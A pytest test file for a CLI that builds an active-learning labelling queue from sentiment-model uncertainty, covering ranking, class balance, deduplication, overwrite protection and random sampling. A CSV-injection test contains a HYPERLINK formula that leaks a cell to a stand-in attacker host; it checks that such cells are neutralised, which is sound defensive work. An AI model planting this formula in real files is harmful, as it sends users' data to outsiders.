"""``lorasent queue``: ranking, balance, dedup, exclusion, the CSV, the bad cases (fast
tier: no model loads: the bad cases are refused before it would); the whole command on
the tiny run's adapter (e2e)."""

import csv
import io
import json
import re
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from conftest import REPO
from lorasent.atomic import atomic_write_text, jsonl_text
from lorasent.cli import main
from lorasent.stages.split import normalise_text
from lorasent.tables import spreadsheet_text
from lorasent.tools.label_queue import (
    Pool,
    QueueError,
    balanced_order,
    check_pool,
    clean_pool,
    header,
    rank_pool,
    relabel_rows,
    relabel_warnings,
    uncertainty,
    write_queue,
    written_by_queue,
)
from lorasent.tools.predict import Prediction

LABELS = ["negative", "neutral", "positive"]


def _pred(text, probs, **columns):
    probs = dict(zip(LABELS, probs, strict=True))
    return Prediction(text, max(probs, key=probs.get), probs, columns=columns)


def test_uncertainty_margin_and_entropy():
    p = [[0.5, 0.3, 0.2], [1.0, 0.0, 0.0], [1 / 3, 1 / 3, 1 / 3]]
    assert uncertainty(p, "margin") == pytest.approx([0.2, 1.0, 0.0])
    assert uncertainty(p, "entropy") == pytest.approx(
        [-(0.5 * np.log(0.5) + 0.3 * np.log(0.3) + 0.2 * np.log(0.2)), 0.0, np.log(3)])


def test_balanced_order_takes_turns_and_a_class_that_runs_out_stops():
    # class 0: rows 0 (0.1), 1 (0.5), 2 (0.6); class 1: row 3 (0.05); class 2: rows 4 (0.3), 5 (0.2)
    predicted = [0, 0, 0, 1, 2, 2]
    margins = [0.1, 0.5, 0.6, 0.05, 0.3, 0.2]
    assert balanced_order(predicted, margins, "margin", 6) == [
        (3, 1), (0, 1), (5, 1), (4, 2), (1, 2), (2, 3)]
    assert balanced_order(predicted, margins, "margin", 4) == [(3, 1), (0, 1), (5, 1), (4, 2)]
    # entropy: largest first
    assert balanced_order([0, 0, 1], [0.2, 0.9, 0.5], "entropy", 3) == [
        (1, 1), (2, 1), (0, 2)]


def test_clean_pool_drops_blank_duplicates_and_split_texts():
    rows = [("Hello  World", {"id": 1}), ("   ", {"id": 2}), ("hello world", {"id": 3}),
            ("ＴＲＡＩＮ text", {"id": 4}), ("new one", {"id": 5})]
    pool = clean_pool(rows, {"train text"})
    assert pool.rows == [("Hello  World", {"id": 1}), ("new one", {"id": 5})]
    assert pool.read == 5
    assert pool.dropped == {"blank": 1, "duplicate": 1, "in_splits": 1}


def test_check_pool_messages():
    with pytest.raises(QueueError) as err:
        check_pool(Pool([("a", {})], 3, {"blank": 0, "duplicate": 1, "in_splits": 1}), 2,
                   "pool.csv")
    assert str(err.value) == (
        "--budget 2: larger than the pool: pool.csv has 1 of 3 texts read (0 blank, 1 "
        "duplicates within the file, 1 already in the training, validation or test data); "
        "give --budget 1 or less, or more texts")
    with pytest.raises(QueueError) as err:
        check_pool(Pool([], 2, {"blank": 0, "duplicate": 0, "in_splits": 2}), 1, "pool.csv")
    assert str(err.value) == (
        "pool.csv: nothing to queue: every text is already in the training, validation or "
        "test data (compared normalised, as the split stage deduplicates); 0 of 2 texts "
        "read (0 blank, 0 duplicates within the file, 2 already in the training, "
        "validation or test data). Give a file of texts not labelled yet")


def test_the_csv_and_its_columns():
    preds = [_pred("a, \"quoted\"\ntext", [0.4, 0.35, 0.25], label="neg"),
             _pred("b", [0.1, 0.1, 0.8], label="pos"),
             _pred("c", [0.2, 0.5, 0.3], label="neu")]
    queued = rank_pool(preds, LABELS, "margin", 2)
    assert [r.prediction.text for r in queued] == ["a, \"quoted\"\ntext", "c"]
    flagged = relabel_rows(preds[1:], ["negative", "neutral"], LABELS, "margin", 3,
                           lambda ids, p: np.array([0]))
    out = io.StringIO()
    write_queue([*queued, *flagged], LABELS, "margin", ["label"], out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["input_label", *header(LABELS, "margin")] == [
        "input_label", "text", "label", "predicted", "p_negative", "p_neutral",
        "p_positive", "margin", "rank", "given_label", "reason"]
    assert rows[1] == [
        "neg", "a, \"quoted\"\ntext", "", "negative", "0.400000", "0.350000", "0.250000",
        "0.050000", "1", "",
        "uncertain: margin 0.0500 between negative 0.400 and neutral 0.350; round 1 of "
        "predicted class negative"]
    assert rows[2][:9] == ["neu", "c", "", "neutral", "0.200000", "0.500000", "0.300000",
                           "0.200000", "2"]
    assert rows[3] == [
        "pos", "b", "", "positive", "0.100000", "0.100000", "0.800000", "0.700000", "3",
        "negative", "label audit (confident learning) on the training split: given negative "
        "has probability 0.100, the adapter says positive 0.800"]
    assert len(rows) == 4


def test_written_by_queue(tmp_path):
    path = tmp_path / "q.csv"
    path.write_text(",".join(["id", *header(LABELS, "entropy")]) + "\n", encoding="utf-8")
    assert written_by_queue(path)
    path.write_text("text,label,p_negative,note\n", encoding="utf-8")
    assert not written_by_queue(path)



def test_trial_pool_and_arm_rows():
    from lorasent.stages.split import SplitError, row_id
    from lorasent.tools.queue_trial import arm_rows, pool_rows

    raw = [{"row": i, "text": t, "label": "pos"} for i, t in
           enumerate(["In  Split", "a", "b", "c"], start=1)]
    assert pool_rows(raw, {"in split"}, 5, 0) == pool_rows(raw, {"in split"}, 5, 0)
    assert sorted(r["text"] for r in pool_rows(raw, {"in split"}, 5, 0)) == ["a", "b", "c"]
    assert len(pool_rows(raw, {"in split"}, 2, 0)) == 2
    assert arm_rows([{"text": "a", "label": " POS"}], LABELS, {"pos": "positive"}) == [
        {"id": row_id("a"), "text": "a", "label": "positive", "label_id": 2}]
    with pytest.raises(SplitError, match="unknown label"):
        arm_rows([{"text": "a", "label": "happy"}], LABELS, {})

# ------------------------------------------------------------------ the bad cases (CLI)

@pytest.fixture
def workspace(tmp_path, monkeypatch):
    """A folder with data/split (one text per split) and a pool of 4 texts, 2 of them
    near-duplicates of split rows; no model: every bad case stops before one loads."""
    monkeypatch.chdir(tmp_path)
    for name, text in (("train", "I love it"), ("validation", "meh"), ("test", "awful")):
        atomic_write_text(tmp_path / "data/split" / f"{name}.jsonl", jsonl_text(
            [{"id": name, "text": text, "label": "positive", "label_id": 2}]))
    (tmp_path / "pool.csv").write_text("text\ni  LOVE it\nAWFUL\nnew text\nanother\n",
                                       encoding="utf-8")
    return tmp_path


@pytest.mark.parametrize(("pool", "args", "message"), [
    ("pool.csv", ["--budget", "0"],
     "--budget 0: must be at least 1 (the number of texts to queue for labelling), e.g. "
     "--budget 200"),
    ("pool.csv", ["--budget", "3"],
     "--budget 3: larger than the pool: pool.csv has 2 of 4 texts read (0 blank, 0 "
     "duplicates within the file, 2 already in the training, validation or test data); "
     "give --budget 2 or less, or more texts"),
    ("dups.csv", ["--budget", "1"],
     "dups.csv: nothing to queue: every text is already in the training, validation or "
     "test data (compared normalised, as the split stage deduplicates); 0 of 2 texts read "
     "(0 blank, 0 duplicates within the file, 2 already in the training, validation or "
     "test data). Give a file of texts not labelled yet"),
    ("pool.csv", ["--budget", "1", "--out", "q.jsonl"],
     "--out q.jsonl: queue writes a .csv file; give a path ending in .csv (nothing was "
     "written)"),
])
def test_bad_cases_one_line_nothing_written(workspace, pool, args, message):
    (workspace / "dups.csv").write_text("text\nMeh\n  awful \n", encoding="utf-8")
    result = CliRunner().invoke(main, ["queue", pool, *args])
    assert result.exit_code == 1, result.output
    assert result.output == f"lorasent queue: error: {message}\n"
    assert not (workspace / "to_label.csv").exists() and not (workspace / "q.jsonl").exists()


def test_standard_input_is_named_so(workspace):
    result = CliRunner().invoke(main, ["queue", "-", "--budget", "1"], input="Meh\nawful\n")
    assert result.exit_code == 1
    assert result.output.startswith("lorasent queue: error: standard input: nothing to "
                                    "queue: every text is already in the training")


def test_pool_without_text_column(workspace):
    (workspace / "notext.csv").write_text("body\nhello\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["queue", "notext.csv", "--budget", "1"])
    assert result.exit_code == 1
    assert result.output == (
        "lorasent queue: error: notext.csv: the header (line 1) has no column 'text' "
        "(--text-column); columns found: ['body']. A file of texts without a header, one "
        "per line, is read as such when it is not named .csv (e.g. texts.txt)\n")
    assert not (workspace / "to_label.csv").exists()


def test_missing_split_is_named(workspace):
    (workspace / "data/split/test.jsonl").unlink()
    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1"])
    assert result.output == (
        "lorasent queue: error: data/split/test.jsonl: not found; the queue leaves out "
        "every text of the training, validation and test splits, so it needs them: run "
        "`dvc repro split` (or `make run`) first, or point --split-dir at the folder "
        "that holds them\n")


def test_an_existing_file_queue_did_not_write_is_kept(workspace):
    (workspace / "to_label.csv").write_text("mine\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1"])
    assert result.exit_code == 1
    assert result.output == (
        "lorasent queue: error: --out to_label.csv: has a header the queue does not write (its "
        "columns: mine): another file, or the queue's with a column renamed, added or "
        "removed, and it may hold someone's work; the queue would replace it. Give another "
        "--out, or pass --force to replace it (the old file is then kept as "
        "to_label.csv.1.bak). Nothing was written\n")
    assert (workspace / "to_label.csv").read_text(encoding="utf-8") == "mine\n"


# --------------------------------------------------------------- e2e: the tiny run

@pytest.mark.slow
def test_queue_on_the_tiny_run(tiny_run, tmp_path):
    """The whole command on the tiny run's adapter: the pool's duplicates and split texts
    are left out, the queue is balanced and ranked, --relabel adds training rows, and
    the output's probabilities are predict's."""
    from tiny_repo import run

    train = [json.loads(line) for line in
             (tiny_run / "data/split/train.jsonl").read_text(encoding="utf-8").splitlines()]
    fresh = [f"pool text number {i} about the weather" for i in range(12)]
    pool = tmp_path / "pool.csv"
    with pool.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "text"])
        for i, text in enumerate([*fresh, fresh[0].upper(), train[0]["text"]]):
            writer.writerow([i, text])
    out = tmp_path / "q.csv"
    run(tiny_run, "lorasent", "queue", str(pool), "--budget", "6", "--relabel",
        "--out", str(out))
    # each cell as it was: a tweet's "@user ..." is written "'@user ..." for spreadsheets
    rows = [{k: spreadsheet_text(v) for k, v in r.items()}
            for r in csv.DictReader(out.open(encoding="utf-8", newline=""))]
    queued = [r for r in rows if not r["given_label"]]
    assert [r["rank"] for r in rows] == [str(i) for i in range(1, len(rows) + 1)]
    assert len(queued) == 6 and {r["text"] for r in queued} <= set(fresh)
    assert all(r["given_label"] in LABELS and r["text"] in {t["text"] for t in train}
               for r in rows[6:])
    ids = {t["text"]: t["id"] for t in train}  # the pool's `id` column: the training row's
    assert rows[6:] and all(r["id"] == ids[r["text"]] for r in rows[6:])
    # predict on the texts the queue kept, in its order: the same batches, so the same
    # bytes (other batches pad and share the prompt's start in other shapes, moving the
    # probabilities by up to 2.7e-6: docs/reproducibility.md, "Batch sizes")
    kept = tmp_path / "kept.csv"
    with kept.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["id", "text"], *enumerate(fresh)])
    run(tiny_run, "lorasent", "predict", "--input", str(kept), "--output",
        str(tmp_path / "p.csv"))
    predicted = {r["text"]: r for r in csv.DictReader(
        (tmp_path / "p.csv").open(encoding="utf-8", newline=""))}
    for r in queued:
        assert r["predicted"] == predicted[r["text"]]["label"]
        assert [r[f"p_{label}"] for label in LABELS] == [
            predicted[r["text"]][f"p_{label}"] for label in LABELS]
    # the hedge: 1 of the 6 drawn at random (20%), at rank 4 ((0 + 1/2) / 1 of the way)
    assert [r["rank"] for r in queued if r["reason"].startswith("random: ")] == ["4"]
    queued = [r for r in queued if not r["reason"].startswith("random: ")]
    # balance: rounds along the ranks, one text of each predicted class a round, each
    # round ordered by margin, and each class's texts by margin across the rounds
    found = [re.search(r"; round (\d+) of predicted class (\w+)$", r["reason"])
             for r in queued]
    assert all(found)
    rounds = [(int(m[1]), m[2]) for m in found if m]
    assert [n for n, _ in rounds] == sorted(n for n, _ in rounds)
    for n in {n for n, _ in rounds}:
        classes = [c for m, c in rounds if m == n]
        assert len(classes) == len(set(classes))
        in_round = [float(r["margin"]) for r, (m, _) in zip(queued, rounds, strict=True)
                    if m == n]
        assert in_round == sorted(in_round)
    for label in LABELS:
        mine = [float(r["margin"]) for r in queued if r["predicted"] == label]
        assert mine == sorted(mine)
    assert [c for _, c in rounds] == [r["predicted"] for r in queued]


@pytest.mark.slow
def test_the_queue_trial_runs_both_arms_and_compares(tiny_copy):
    """`make queue-trial`'s module on a clone of the tiny run, over 2 seeds: each arm at
    each seed becomes an experiment trained on the training split plus its rows, at its
    seed, and compare judges the two groups over seeds."""
    import sys

    from lorasent.params import read_yaml
    from tiny_repo import run

    seed = read_yaml(run(tiny_copy, "git", "show", "HEAD:params.yaml"), "params.yaml")[
        "base"]["seed"]
    before = (tiny_copy / "data/split/train.jsonl").read_text(encoding="utf-8")
    out = run(tiny_copy, sys.executable, "-m", "lorasent.tools.queue_trial", "--pool", "40",
              "--budget", "4", "--seeds", "2", "--name", "qt", logs=True)
    names = [f"qt-{arm}-seed{s}" for s in (seed, seed + 1) for arm in ("random", "queued")]
    queued = list(csv.DictReader((tiny_copy / f"qt-queued-seed{seed + 1}.csv").open(
        encoding="utf-8")))
    assert len(queued) == 4
    for r in queued:  # as written: a formula-like cell (a tweet's "@user ...") has a quote
        r["text"] = spreadsheet_text(r["text"])
    for name in names:
        rows = [json.loads(line) for line in
                (tiny_copy / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()]
        assert len(rows) == 4
    assert [json.loads(x)["text"] for x in (tiny_copy / f"qt-queued-seed{seed + 1}.jsonl")
            .read_text(encoding="utf-8").splitlines()] == [r["text"] for r in queued]
    train = (tiny_copy / "data/split/train.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(train) == len(before.splitlines()) + 4
    assert {json.loads(x)["text"] for x in train[-4:]} == {r["text"] for r in queued}
    trained = json.loads((tiny_copy / "metrics/provenance/train.json").read_text(
        encoding="utf-8"))
    assert trained["train_rows"] == len(before.splitlines()) + 4
    assert trained["params"]["base"]["seed"] == seed + 1
    shown = run(tiny_copy, "dvc", "exp", "show", "--json")
    assert all(name in shown for name in names)
    assert f"Experiment has been saved as: qt-random-seed{seed}" in out
    assert "wrote reports/qt-random-vs-qt-queued/report.md" in out, out
    verdict = (tiny_copy / "reports/qt-random-vs-qt-queued/verdict.md").read_text(
        encoding="utf-8")
    assert "over seeds" in verdict


# ------------------------------------- issue 51: formulas, labelled files, invisible texts

HOSTILE = ['=HYPERLINK("http://attacker.example/?leak="&A2,"Click")', "@SUM(A1)", "-x-",
           "+1+1", "\tt", "'tis", "plain"]


def test_the_queue_neutralises_formulas_and_every_reader_gets_the_texts_back(tmp_path):
    """OWASP's CSV injection: a cell a spreadsheet would run is written with a leading
    quote; the queue's own reading of the file (predict's --input reader) and the fetch
    stage (the labelled file as data) give the texts back as they were."""
    from lorasent.stages.fetch import read_labelled
    from lorasent.tools.predict import open_inputs

    preds = [_pred(t, [0.4, 0.35, 0.25], note=f"=c{i}") for i, t in enumerate(HOSTILE)]
    out = io.StringIO()
    write_queue(rank_pool(preds, LABELS, "margin", len(preds)), LABELS, "margin", ["note"],
                out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[:3] for row in rows[1:]] == [
        ["'=c0", '\'=HYPERLINK("http://attacker.example/?leak="&A2,"Click")', ""],
        ["'=c1", "'@SUM(A1)", ""], ["'=c2", "'-x-", ""], ["'=c3", "'+1+1", ""],
        ["'=c4", "'\tt", ""], ["'=c5", "''tis", ""], ["'=c6", "plain", ""]]
    assert rows[1][3:8] == ["negative", "0.400000", "0.350000", "0.250000", "0.050000"]
    # a labeller fills in two labels and saves
    rows[1][2], rows[2][2] = "negative", "positive"
    path = tmp_path / "to_label.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)  # \r\n, as spreadsheets save
    assert written_by_queue(path)
    with open_inputs(str(path)) as inputs:
        assert [(t, c["note"]) for t, c in inputs.rows] == [
            (t, f"=c{i}") for i, t in enumerate(HOSTILE)]
    labelled = read_labelled(path, text_column="text", label_column="label",
                             encoding="utf-8", separator="auto")
    assert [(r["text"], r["label"]) for r in labelled] == [
        (HOSTILE[0], "negative"), (HOSTILE[1], "positive"), *((t, "") for t in HOSTILE[2:])]


def test_texts_with_invisible_characters_are_already_labelled():
    """A zero-width space, soft hyphen, byte-order mark or word joiner added to a split's
    text does not make it a new text."""
    split = {normalise_text("I love it")}
    texts = ["I\u200b love it", "I lo\u00adve it", "\ufeffI love it", "I love\u2060 it",
             "I love it!"]
    rows: list[tuple[str, dict[str, str]]] = [(text, {}) for text in texts]
    pool = clean_pool(rows, split)
    assert pool.rows == [("I love it!", {})]
    assert pool.dropped == {"blank": 0, "duplicate": 0, "in_splits": 4}


def _labelled_queue_file(path, labels, *, bom=False, separator=","):
    """A queue file as a spreadsheet saves it after labelling: CRLF line ends, maybe a
    byte-order mark and another separator; ``labels`` fill the label column in order."""
    preds = [_pred(f"text {i}", [0.4, 0.35, 0.25], id=str(i)) for i in range(len(labels))]
    out = io.StringIO()
    write_queue(rank_pool(preds, LABELS, "margin", len(preds)), LABELS, "margin", ["id"], out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    for row, label in zip(rows[1:], labels, strict=True):
        row[2] = label
    text = io.StringIO()
    csv.writer(text, delimiter=separator).writerows(rows)
    path.write_bytes(("\ufeff" if bom else "").encode() + text.getvalue().encode("utf-8"))
    return path.read_bytes()


@pytest.mark.parametrize(("bom", "separator"), [(False, ","), (True, ","), (True, ";")])
def test_a_labelled_queue_file_is_never_replaced_without_force(workspace, bom, separator):
    """12 labels filled in and saved by a spreadsheet, then the queue run again: refused
    before any model loads, in one line, the file as it was and nothing else written."""
    path = workspace / "to_label.csv"
    before = _labelled_queue_file(path, ["negative", "", "positive"] * 6 + [" "] * 2,
                                  bom=bom, separator=separator)
    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1"])
    assert result.exit_code == 1, result.output
    assert result.output == (
        "lorasent queue: error: --out to_label.csv: holds 12 labelled rows (its label column "
        "is filled in); the queue would replace it. Give another --out, or pass --force to "
        "replace it (the old file is then kept as to_label.csv.1.bak). Nothing was written\n")
    assert path.read_bytes() == before
    assert sorted(p.name for p in workspace.iterdir()) == ["data", "pool.csv", "to_label.csv"]


def test_an_unreadable_out_file_counts_as_labelled(workspace):
    path = workspace / "to_label.csv"
    own = ",".join(header(LABELS, "margin"))  # the queue's header, a row cut short
    path.write_text(f'{own}\n"open quote,x\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1"])
    assert result.output == (
        "lorasent queue: error: --out to_label.csv: cannot be read as a CSV, so whether its "
        "label column is filled in cannot be told; the queue would replace it. Give another "
        "--out, or pass --force to replace it (the old file is then kept as "
        "to_label.csv.1.bak). Nothing was written\n")


@pytest.fixture
def fake_adapter(monkeypatch):
    """The queue's model calls replaced: every text scored ``probs`` (``probs[0]``: the
    probabilities of all texts), no model loaded; the fast tier runs the command whole."""
    from types import SimpleNamespace

    import lorasent.contracts
    import lorasent.modeling
    import lorasent.tools.predict

    probs = [[0.2, 0.3, 0.5]]

    def stream(model, encoder, labels, rows, batch_size, **kw):
        for text, columns in rows:
            yield _pred(text, probs[0], **columns)

    monkeypatch.setattr(lorasent.tools.predict, "check_adapter_folder", lambda path: None)
    monkeypatch.setattr(lorasent.contracts, "read_temperature_scaling", lambda path: None)
    monkeypatch.setattr(lorasent.modeling, "load_trained_model", lambda *a, **kw: (
        None, None, SimpleNamespace(labels=LABELS), None))
    monkeypatch.setattr(lorasent.tools.predict, "stream_predictions", stream)
    return probs


def test_force_keeps_the_labelled_file_aside_under_a_new_name(workspace, fake_adapter):
    path = workspace / "to_label.csv"
    before = _labelled_queue_file(path, ["negative", "positive", ""])
    (workspace / "to_label.csv.1.bak").write_text("someone's\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "2", "--force"])
    assert result.exit_code == 0, result.output
    assert ("kept the old to_label.csv (2 labelled rows) as to_label.csv.2.bak\n"
            in result.stderr)
    assert (workspace / "to_label.csv.2.bak").read_bytes() == before
    assert (workspace / "to_label.csv.1.bak").read_text(encoding="utf-8") == "someone's\n"
    assert written_by_queue(path)
    assert [r["text"] for r in csv.DictReader(path.open(encoding="utf-8", newline=""))] == [
        "new text", "another"]


def test_a_queue_file_without_labels_is_replaced_and_nothing_kept(workspace, fake_adapter):
    _labelled_queue_file(workspace / "to_label.csv", ["", " "])
    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1"])
    assert result.exit_code == 0, result.output
    assert "kept the old" not in result.stderr
    assert sorted(p.name for p in workspace.iterdir()) == ["data", "pool.csv", "to_label.csv"]


def test_relabel_with_a_degenerate_adapter_says_so(workspace, fake_adapter):
    """An adapter that predicts one class for every row: evaluate warns of it, and so
    does the queue before the label audit's rows."""
    atomic_write_text(workspace / "data/split/train.jsonl", jsonl_text(
        [{"id": f"t{i}", "text": f"train {i}", "label": label, "label_id": LABELS.index(label)}
         for i, label in enumerate(["negative", "neutral", "positive"] * 4)]))
    fake_adapter[0] = [0.05, 0.05, 0.9]
    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1", "--relabel"])
    assert result.exit_code == 0, result.output
    assert (
        "warning: --relabel on the training split: never predicted: `negative` (4 of 12 "
        "training rows are negative), `neutral` (4 of 12 training rows are neutral); the "
        "adapter is degenerate (one class for nearly every row), so the rows the label audit "
        "flags are its failures more than label errors: retrain it before relabelling (the "
        "evaluate stage warns of the same in metrics/eval.json)\n"
        "warning: --relabel on the training split: `positive` is predicted for 12 of 12 rows "
        "(100%), though 33% of them are positive; the adapter is degenerate") in result.stderr
    # one class for every row, as many as the labels say: not degenerate
    assert relabel_warnings([_pred(f"t{i}", [0.2, 0.3, 0.5]) for i in range(3)],
                            ["positive"] * 3, LABELS) == []


# ------------------------------------- issue 52: the hedge (random picks, extremes skipped)

def test_the_hedge_skips_the_most_uncertain_and_spreads_random_picks_along_the_queue():
    """20 texts, budget 10: 2 drawn at random (20%), spread evenly (ranks 3 and 8); the
    smallest margin of the pool (5%: 1 text) is not an uncertain pick; the draw is the
    seed's."""
    from lorasent.tools.label_queue import hedge_counts, hedged_order

    margins = [0.30, 0.001, 0.20, 0.25, 0.10, 0.15, 0.40, 0.05, 0.35, 0.12,
               0.22, 0.45, 0.50, 0.55, 0.60, 0.65, 0.70, 0.75, 0.80, 0.85]
    predicted = [i % 3 for i in range(20)]
    assert hedge_counts(20, 10) == (2, 1)
    order = hedged_order(predicted, margins, "margin", 10, seed=0)
    assert len(order) == 10 and len({row for row, _ in order}) == 10
    assert [i for i, (_, round_) in enumerate(order, start=1) if round_ is None] == [3, 8]
    uncertain = [row for row, round_ in order if round_ is not None]
    assert 1 not in uncertain  # margin 0.001: left out as a likely outlier
    kept = [i for i in range(20) if i != 1]
    assert uncertain == [kept[row] for row, _ in balanced_order(
        [predicted[i] for i in kept], [margins[i] for i in kept], "margin", 8)]
    assert order == hedged_order(predicted, margins, "margin", 10, seed=0)
    assert {r for r, n in order if n is None} != {
        r for r, n in hedged_order(predicted, margins, "margin", 10, seed=1) if n is None}
    # no hedge: the plain balanced queue; a pool with nothing to spare: nothing skipped
    assert hedged_order(predicted, margins, "margin", 10, 0.0, 0, 0.0) == balanced_order(
        predicted, margins, "margin", 10)
    # the whole pool queued: the skipped text comes back only as a random pick
    assert hedge_counts(10, 10) == (2, 1) and hedge_counts(3, 2, 0.2) == (0, 1)
    # entropy: the largest is the most uncertain, and left out
    assert 1 not in [row for row, n in hedged_order(predicted, [1 - m for m in margins],
                                                   "entropy", 10) if n is not None]


def test_a_random_pick_says_so_in_the_csv():
    preds = [_pred(f"t{i}", [0.4 + i / 100, 0.35, 0.25 - i / 100]) for i in range(10)]
    queued = rank_pool(preds, LABELS, "margin", 5, random_share=0.2, seed=3, skip_share=0.05)
    random_rows = [r for r in queued if r.reason.startswith("random: ")]
    assert len(random_rows) == 1 and random_rows[0].rank == 3
    p = random_rows[0].prediction
    assert p.probabilities is not None and random_rows[0].reason == (
        "random: drawn at random from the pool (--random-share 0.2, --seed 3), a hedge "
        f"against the uncertain picks' outliers; margin {random_rows[0].value:.4f} between "
        f"negative {p.probabilities['negative']:.3f} and neutral 0.350; predicted class "
        "negative")
    assert "t0" not in [r.prediction.text for r in queued if r.reason.startswith("uncertain")]
    out = io.StringIO()
    write_queue(queued, LABELS, "margin", [], out)
    assert written_for_csv(out.getvalue())


def written_for_csv(text: str) -> bool:
    from lorasent.tables import written_for_people

    return written_for_people(next(csv.reader(io.StringIO(text)))) == "queue"


def test_the_queue_command_hedges_by_default_and_says_how(workspace, fake_adapter, monkeypatch):
    import lorasent.tools.predict
    from lorasent.tools.label_queue import RANDOM_SHARE

    texts = [f"text number {i}" for i in range(20)]
    (workspace / "pool.csv").write_text("text\n" + "\n".join(texts) + "\n", encoding="utf-8")

    def stream(model, encoder, labels, rows, batch_size, **kw):
        for text, columns in rows:  # text number i: margin 0.02 * i
            i = int(text.split()[-1])
            yield _pred(text, [0.45 + 0.01 * i, 0.45 - 0.01 * i, 0.1], **columns)

    monkeypatch.setattr(lorasent.tools.predict, "stream_predictions", stream)
    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "10"])
    assert result.exit_code == 0, result.output
    assert ("hedge: 2 of the 10 drawn at random (--random-share 0.2, --seed 0); the 1 texts "
            "of the pool with the smallest margins (5%) left out of the uncertain picks as "
            "likely outliers (docs/active-learning.md)\n") in result.stderr
    rows = list(csv.DictReader((workspace / "to_label.csv").open(encoding="utf-8")))
    assert [r["reason"].split(":")[0] for r in rows] == [
        "uncertain", "uncertain", "random", *["uncertain"] * 4, "random", "uncertain",
        "uncertain"]
    assert "text number 0" not in [r["text"] for r in rows if r["reason"].startswith("unc")]
    # the CLI's default is the module's, and --random-share 0 is the plain queue
    assert main.commands["queue"].params[[p.name for p in main.commands["queue"].params]
                                        .index("random_share")].default == RANDOM_SHARE
    result = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "10", "--force",
                                       "--random-share", "0"])
    rows = list(csv.DictReader((workspace / "to_label.csv").open(encoding="utf-8")))
    assert all(r["reason"].startswith("uncertain") for r in rows)


def test_a_random_share_outside_zero_to_one_is_a_one_line_usage_error(workspace):
    done = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1", "--random-share",
                                     "1.5"], prog_name="lorasent")
    assert done.exit_code == 2 and done.output == (
        "lorasent queue: error: Invalid value for '--random-share': 1.5 is not in the range "
        "0<=x<=1 (see `lorasent queue --help`)\n")


def test_the_queue_trial_runs_seeds_a_side_and_compares_the_groups(tmp_path, monkeypatch,
                                                                    params_raw):
    """`make queue-trial` over 3 seeds, its commands faked (no model, no DVC): every queue
    before any training, with its seed's draw; each arm at each seed trained on the
    committed split plus its rows, base.seed the run's; the groups compared over seeds."""
    import shutil

    from lorasent.params import load_params, read_yaml
    from lorasent.tools import queue_trial

    monkeypatch.chdir(tmp_path)
    shutil.copy(REPO / "params.yaml", tmp_path / "params.yaml")
    raw = [{"row": i, "text": f"pool tweet {i}", "label": LABELS[i % 3]} for i in range(30)]
    atomic_write_text(tmp_path / "data/raw/dataset.jsonl", jsonl_text(
        [*raw, {"row": 30, "text": "I love it", "label": "positive"}]))
    committed_rows = [{"id": "t", "text": "I love it", "label": "positive", "label_id": 2}]
    for name in ("train", "validation", "test"):
        atomic_write_text(tmp_path / "data/split" / f"{name}.jsonl", jsonl_text(
            committed_rows if name == "train" else [{"id": name, "text": name, "label":
                                                     "negative", "label_id": 0}]))
    done: list[tuple[str, ...]] = []
    trained: list[tuple[int, int, str]] = []

    def fake(*argv: str) -> None:
        command = (Path(argv[0]).name, *argv[1:])
        done.append(command)
        if command[:2] == ("lorasent", "queue"):  # the first 4 pool texts, as the queue writes
            pool = list(csv.DictReader(open(argv[2], encoding="utf-8")))
            with open(argv[argv.index("--out") + 1], "w", encoding="utf-8", newline="") as fh:
                writer = csv.writer(fh)
                writer.writerow(["input_label", *header(LABELS, "margin")])
                for i, r in enumerate(pool[:4], start=1):
                    writer.writerow([r["label"], r["text"], "", "negative", 0.4, 0.35, 0.25,
                                     0.05, i, "", "uncertain: ..."])
        if command[:2] == ("dvc", "repro"):
            train = (tmp_path / "data/split/train.jsonl").read_text(encoding="utf-8")
            params = read_yaml((tmp_path / "params.yaml").read_text(), "params.yaml")
            trained.append((params["base"]["seed"], len(train.splitlines()),
                            json.loads(train.splitlines()[-1])["text"]))

    monkeypatch.setattr(queue_trial, "_run", fake)
    queue_trial.main(["--pool", "20", "--budget", "4", "--name", "qt"])
    seed = params_raw["base"]["seed"]
    names = [f"qt-{arm}-seed{s}" for s in (seed, seed + 1, seed + 2)
             for arm in ("random", "queued")]
    assert [c[:2] for c in done] == [("dvc", "checkout"), *[("lorasent", "queue")] * 3,
                                     *[("dvc", "repro"), ("dvc", "exp")] * 6,
                                     ("lorasent", "compare")]
    assert [c[c.index("--seed") + 1] for c in done if c[1] == "queue"] == ["0", "1", "2"]
    assert [c[4] for c in done if c[:2] == ("dvc", "exp")] == names
    assert done[-1] == ("lorasent", "compare", ",".join(names[::2]), ",".join(names[1::2]),
                        "--out", "reports/qt-random-vs-qt-queued")
    # each run: the committed row plus its arm's 4, at its seed
    assert [(s, n) for s, n, _ in trained] == [(s, 5) for s in (seed, seed, seed + 1,
                                                                seed + 1, seed + 2, seed + 2)]
    pool = list(csv.DictReader(open("qt-pool.csv", encoding="utf-8")))
    assert "I love it" not in [r["text"] for r in pool] and len(pool) == 20
    assert all(t == pool[3]["text"] for _, _, t in trained[1::2])  # the queue's 4th
    random_rows = [[json.loads(line)["text"] for line in open(f"{name}.jsonl")]
                   for name in names[::2]]
    assert len({tuple(r) for r in random_rows}) == 3  # each seed its own draw
    assert load_params().base.seed == seed + 2  # the workspace: the last run's


